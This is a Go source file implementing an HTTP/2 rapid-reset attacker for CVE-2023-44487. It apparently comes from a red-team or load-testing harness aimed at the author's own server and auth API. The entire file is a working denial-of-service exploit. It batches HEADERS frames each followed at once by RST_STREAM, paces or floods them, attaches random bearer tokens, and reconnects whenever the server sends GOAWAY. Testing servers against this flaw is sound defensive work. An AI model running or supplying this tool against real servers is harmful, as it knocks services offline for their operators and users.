package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/hex"
	"errors"
	"math/rand/v2"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rapidReset is the HTTP/2 rapid-reset attacker (CVE-2023-44487): over one
// h2c connection (prior knowledge) it writes perLoop streams at a time, each
// a HEADERS frame (a complete GET, END_STREAM) followed at once by
// RST_STREAM(CANCEL), flushes them in one write, and loops every interval
// (the red-team pace: 200 every 25 ms, 8,000 streams/s; 0: as fast as it can,
// which on a machine the attacker shares with the server measures how the
// CPU is divided more than the server). Reset streams do
// not count against SETTINGS_MAX_CONCURRENT_STREAMS, so nothing but the
// server's own defences limits how many requests it starts. Each stream
// carries a fresh random token (unknown to the auth API) unless token is
// set. The net/http client cannot do this: it resets a stream only when its
// request is cancelled, one at a time, so the framer is driven directly.
// When the server ends the connection (GOAWAY, reset, a write blocked past
// writeTimeout) the attacker reconnects, until its context ends.
type rapidReset struct {
	addr         string // host:port
	authority    string
	path         string
	token        string // "": a fresh random token per stream
	perLoop      int
	interval     time.Duration // between loops; 0: none
	src          string        // source address; "" any
	writeTimeout time.Duration

	streams   atomic.Uint64 // HEADERS + RST_STREAM pairs written
	loops     atomic.Uint64
	conns     atomic.Uint64
	responses atomic.Uint64 // HEADERS frames from the server (answers that beat the reset)
	rsts      atomic.Uint64 // RST_STREAM frames from the server
	dataBytes atomic.Uint64
	goaways   errCounts // by error code
	statuses  errCounts // of the responses
	errs      errCounts // why connections ended
}

var errStreamIDs = errors.New("stream IDs used up")

// run attacks until ctx ends, reconnecting whenever a connection ends.
func (a *rapidReset) run(ctx context.Context) {
	var tick <-chan time.Time // nil: no pacing
	if a.interval > 0 {
		t := time.NewTicker(a.interval)
		defer t.Stop()
		tick = t.C
	}
	for ctx.Err() == nil {
		err := a.conn(ctx, tick)
		if err != nil && ctx.Err() == nil {
			a.errs.add(err)
			sleepCtx(ctx, 10*time.Millisecond) // a refusing server is not a busy loop
		}
	}
}

// conn runs one connection until it fails or ctx ends, writing a loop of
// streams at each tick (or at once when tick is nil).
func (a *rapidReset) conn(ctx context.Context, tick <-chan time.Time) error {
	d := net.Dialer{Timeout: 5 * time.Second}
	if a.src != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(a.src)}
	}
	c, err := d.DialContext(ctx, "tcp", a.addr)
	if err != nil {
		return err
	}
	a.conns.Add(1)
	cctx, cancel := context.WithCancelCause(ctx)
	defer cancel(nil)
	stop := context.AfterFunc(cctx, func() { c.Close() })
	defer stop()
	defer c.Close()

	bw := bufio.NewWriterSize(c, 64<<10)
	fr := http2.NewFramer(bw, c)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	var wmu sync.Mutex // the reader answers SETTINGS and PING between loops
	write := func(f func() error) error {
		wmu.Lock()
		defer wmu.Unlock()
		_ = c.SetWriteDeadline(time.Now().Add(a.writeTimeout))
		if err := f(); err != nil {
			return err
		}
		return bw.Flush()
	}
	err = write(func() error {
		if _, err := bw.WriteString(http2.ClientPreface); err != nil {
			return err
		}
		if err := fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0}); err != nil {
			return err
		}
		return fr.WriteWindowUpdate(0, 1<<30)
	})
	if err != nil {
		return err
	}

	go func() {
		cancel(a.read(fr, write))
	}()

	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	tok := make([]byte, 0, 64)
	id := uint32(1)
	for {
		if tick != nil {
			select {
			case <-tick:
			case <-cctx.Done():
			}
		}
		if err := context.Cause(cctx); err != nil {
			if ctx.Err() != nil {
				return nil
			}
			return err
		}
		err := write(func() error {
			for range a.perLoop {
				hbuf.Reset()
				tok = a.appendToken(tok[:0])
				_ = enc.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"})
				_ = enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: "http"})
				_ = enc.WriteField(hpack.HeaderField{Name: ":authority", Value: a.authority})
				_ = enc.WriteField(hpack.HeaderField{Name: ":path", Value: a.path})
				_ = enc.WriteField(hpack.HeaderField{Name: "accept", Value: "text/event-stream"})
				_ = enc.WriteField(hpack.HeaderField{Name: "authorization", Value: string(tok), Sensitive: true})
				if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(),
					EndStream: true, EndHeaders: true}); err != nil {
					return err
				}
				if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
					return err
				}
				id += 2
			}
			return nil
		})
		if err != nil {
			if ctx.Err() != nil {
				return nil
			}
			if cause := context.Cause(cctx); cause != nil {
				return cause // the reader knows better (GOAWAY)
			}
			return err
		}
		a.streams.Add(uint64(a.perLoop))
		a.loops.Add(1)
		if id > 1<<31-1-2*uint32(a.perLoop) {
			return errStreamIDs
		}
	}
}

// appendToken appends the Authorization value of the next stream.
func (a *rapidReset) appendToken(b []byte) []byte {
	b = append(b, "Bearer "...)
	if a.token != "" {
		return append(b, a.token...)
	}
	return appendRandomToken(b)
}

// appendRandomToken appends a fresh random token: "r" and 32 hex digits,
// never of the auth API's u<N> form.
func appendRandomToken(b []byte) []byte {
	var r [16]byte
	for i := range 2 {
		v := rand.Uint64()
		for j := range 8 {
			r[i*8+j] = byte(v >> (8 * j))
		}
	}
	b = append(b, 'r')
	return hex.AppendEncode(b, r[:])
}

// goawayError ends a connection the server sent GOAWAY on.
type goawayError http2.ErrCode

func (e goawayError) Error() string { return "GOAWAY " + http2.ErrCode(e).String() }

// read handles the server's frames until the connection fails: SETTINGS and
// PING are acknowledged, DATA is given back to the connection's window,
// answers and resets are counted, GOAWAY ends the connection.
func (a *rapidReset) read(fr *http2.Framer, write func(func() error) error) error {
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return err
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				if err := write(fr.WriteSettingsAck); err != nil {
					return err
				}
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				data := f.Data
				if err := write(func() error { return fr.WritePing(true, data) }); err != nil {
					return err
				}
			}
		case *http2.MetaHeadersFrame:
			a.responses.Add(1)
			a.statuses.add(errors.New("status " + f.PseudoValue("status")))
		case *http2.DataFrame:
			if n := len(f.Data()); n > 0 {
				a.dataBytes.Add(uint64(n))
				if err := write(func() error { return fr.WriteWindowUpdate(0, uint32(n)) }); err != nil {
					return err
				}
			}
		case *http2.RSTStreamFrame:
			a.rsts.Add(1)
		case *http2.GoAwayFrame:
			a.goaways.add(goawayError(f.ErrCode))
			return goawayError(f.ErrCode)
		}
	}
}
